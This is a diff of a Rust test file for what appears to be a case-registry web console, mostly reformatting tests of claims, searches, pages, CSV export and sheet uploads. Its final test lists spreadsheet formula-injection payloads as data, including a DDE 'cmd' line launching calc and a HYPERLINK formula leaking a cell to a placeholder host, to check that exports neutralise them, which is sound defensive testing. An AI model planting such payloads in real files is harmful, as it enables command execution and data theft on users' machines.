@@ -199,19 +199,34 @@ fn what_is_in_hand_ends_with_its_state(house: &House) {
         mine: true,
         ..Queue::default()
     };
-    registry.claim(&some[..2], Some("desk"), &desk, now).expect("claimed");
+    registry
+        .claim(&some[..2], Some("desk"), &desk, now)
+        .expect("claimed");
     assert_eq!(walked(house, "desk", &mine).len(), 2);
     assert!(walked(house, "first", &mine).is_empty());
     let day = house.on(today());
     let missing = vec!["体检证明".to_owned()];
-    assert_eq!(day.does("desk", Command::Return { missing }, some[0]), Ok("returned"));
+    assert_eq!(
+        day.does("desk", Command::Return { missing }, some[0]),
+        Ok("returned")
+    );
     assert_eq!(walked(house, "desk", &mine).len(), 1);
-    registry.claim(&some[..2], None, &desk, now).expect("given back");
+    registry
+        .claim(&some[..2], None, &desk, now)
+        .expect("given back");
     assert!(walked(house, "desk", &mine).is_empty());
     // Nobody takes what is not the own office's, nor gives it to another office.
     let keeper = house.officer("keeper");
-    assert!(registry.claim(&some[..1], Some("keeper"), &keeper, now).is_err());
-    assert!(registry.claim(&some[..1], Some("clerk"), &desk, now).is_err());
+    assert!(
+        registry
+            .claim(&some[..1], Some("keeper"), &keeper, now)
+            .is_err()
+    );
+    assert!(
+        registry
+            .claim(&some[..1], Some("clerk"), &desk, now)
+            .is_err()
+    );
 }
 
 fn a_search_finds_the_own_offices_only(house: &House) {
@@ -222,7 +237,12 @@ fn a_search_finds_the_own_offices_only(house: &House) {
     let ticket = registry.case_file(&desk, *id, today()).expect("a case");
     let ticket = ticket.case.registration.ticket;
     let found = |officer, typed: &str| registry.search(officer, typed, today()).expect("a search");
-    for typed in [&*person.number, &format!("T{}", person.number), &*ticket, &id.to_string()] {
+    for typed in [
+        &*person.number,
+        &format!("T{}", person.number),
+        &*ticket,
+        &id.to_string(),
+    ] {
         let hits = found(&desk, typed).cases;
         let hits: Vec<_> = hits.iter().map(|l| l.case.id).collect();
         assert_eq!(hits, [*id], "{typed}");
@@ -240,7 +260,11 @@ fn a_search_finds_the_own_offices_only(house: &House) {
         day.finishes(*issued);
     }
     assert!(!found(&desk, "张三").certificates.is_empty());
-    assert!(found(&house.officer("clerk"), "张三").certificates.is_empty());
+    assert!(
+        found(&house.officer("clerk"), "张三")
+            .certificates
+            .is_empty()
+    );
 }
 
 fn pages_do_what_they_say(house: &House) {
@@ -256,30 +280,53 @@ fn pages_do_what_they_say(house: &House) {
         .collect();
     assert!(ids.len() >= 3 && !page.contains("checked"), "{page}");
     // Nothing is done by the page before it; who has materials missing is not ticked.
-    let fields = [("state", "reported"), ("command", "accept"), ("case", ids[0]), ("case", ids[1])];
+    let fields = [
+        ("state", "reported"),
+        ("command", "accept"),
+        ("case", ids[0]),
+        ("case", ids[1]),
+    ];
     let before = desk.post("/console/cases/confirm", &fields).text;
-    assert!(before.contains("请单独看：2 件") && before.contains("报送时没有材料"), "{before}");
+    assert!(
+        before.contains("请单独看：2 件") && before.contains("报送时没有材料"),
+        "{before}"
+    );
     assert!(!before.contains(" checked"), "{before}");
     let again = desk.get("/console/cases?state=reported").text;
     assert_eq!(again.matches("name=\"case\"").count(), ids.len());
     let done = desk.post("/console/cases", &fields);
     assert_eq!(done.text.matches("</code> ").count(), 2, "{}", done.text);
-    let none = desk.post("/console/cases/confirm", &[("state", "reported"), ("command", "accept")]);
+    let none = desk.post(
+        "/console/cases/confirm",
+        &[("state", "reported"), ("command", "accept")],
+    );
     assert!(none.text.contains("没有勾选办件"));
     views(&mut desk);
     let typed = [("sought", "王小明")];
     let sent = desk.post("/console/search", &typed);
-    assert!(sent.status == 200 && sent.text.contains("/console/cases/"), "{}", sent.text);
+    assert!(
+        sent.status == 200 && sent.text.contains("/console/cases/"),
+        "{}",
+        sent.text
+    );
     assert_eq!(desk.post("/console/search", &[("sought", " ")]).status, 200);
 }
 
 fn views(desk: &mut Browser) {
-    let fields = [("state", "reported"), ("item", "2.1"), ("name", "焊工 <在办>"), ("command", "keep")];
+    let fields = [
+        ("state", "reported"),
+        ("item", "2.1"),
+        ("name", "焊工 <在办>"),
+        ("command", "keep"),
+    ];
     let kept = desk.post("/console/views", &fields);
     assert_eq!(kept.location(), "/console/cases?state=reported&item=2.1");
     let page = desk.get("/console/cases").text;
     assert!(page.contains("焊工 &#60;在办&#62;"), "{page}");
-    desk.post("/console/views", &[("name", "焊工 <在办>"), ("command", "drop")]);
+    desk.post(
+        "/console/views",
+        &[("name", "焊工 <在办>"), ("command", "drop")],
+    );
     assert!(!desk.get("/console/cases").text.contains("焊工"));
     let nameless = desk.post("/console/views", &[("name", " "), ("command", "keep")]);
     assert!(nameless.text.contains("没有保存"));
@@ -306,7 +353,10 @@ fn a_list_says_what_its_page_says(house: &House) {
     ] {
         let file = house.browser(login).post(path, &[("format", "csv")]);
         assert_eq!(file.status, 200, "{path}");
-        assert!(file.text.starts_with('\u{FEFF}') && file.text.contains("\r\n"), "{path}");
+        assert!(
+            file.text.starts_with('\u{FEFF}') && file.text.contains("\r\n"),
+            "{path}"
+        );
     }
 }
 
@@ -324,15 +374,32 @@ fn a_sheet_does_it_and_comes_back(house: &House) {
         one.registration.ticket, other.id, one.id
     );
     desk.get("/console/cases/sheet");
-    let marked = desk.upload_with("/console/cases/sheet", &[("command", "return"), ("check", "1")], text.as_bytes());
-    assert!(marked.text.contains("已报送") || marked.text.contains("材料"), "{}", marked.text);
+    let marked = desk.upload_with(
+        "/console/cases/sheet",
+        &[("command", "return"), ("check", "1")],
+        text.as_bytes(),
+    );
+    assert!(
+        marked.text.contains("已报送") || marked.text.contains("材料"),
+        "{}",
+        marked.text
+    );
     assert_eq!(walked(house, "desk", &reported).len(), waiting.len());
-    let marked = desk.upload_with("/console/cases/sheet", &[("command", "return")], text.as_bytes());
+    let marked = desk.upload_with(
+        "/console/cases/sheet",
+        &[("command", "return")],
+        text.as_bytes(),
+    );
     let rows: Vec<&str> = marked.text.trim_start_matches('\u{FEFF}').lines().collect();
     assert_eq!(rows.len(), 5, "{}", marked.text);
-    assert!(rows[3].starts_with("本机构没有") && rows[4].starts_with("同一件"), "{rows:?}");
+    assert!(
+        rows[3].starts_with("本机构没有") && rows[4].starts_with("同一件"),
+        "{rows:?}"
+    );
     assert_eq!(walked(house, "desk", &reported).len(), waiting.len() - 2);
-    let file = house.registry().case_file(&house.officer("desk"), one.id, today());
+    let file = house
+        .registry()
+        .case_file(&house.officer("desk"), one.id, today());
     let domain::case::State::Returned { missing } = file.expect("a case").case.state else {
         panic!("it was returned");
     };
@@ -373,7 +440,24 @@ on_both! {
 /// from a workbook as it was, from a csv with a mark before it that keeps it from being a formula.
 #[test]
 fn no_text_becomes_a_formula() {
-    let heads = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", "\u{3000}=", "=-", "+-", "@="];
+    let heads = [
+        "=",
+        "+",
+        "-",
+        "@",
+        "＝",
+        "＋",
+        "－",
+        "＠",
+        "\t=",
+        "\r=",
+        "\n=",
+        " =",
+        "\u{3000}=",
+        "=-",
+        "+-",
+        "@=",
+    ];
     let tails = [
         "cmd|' /C calc'!A0",
         "HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
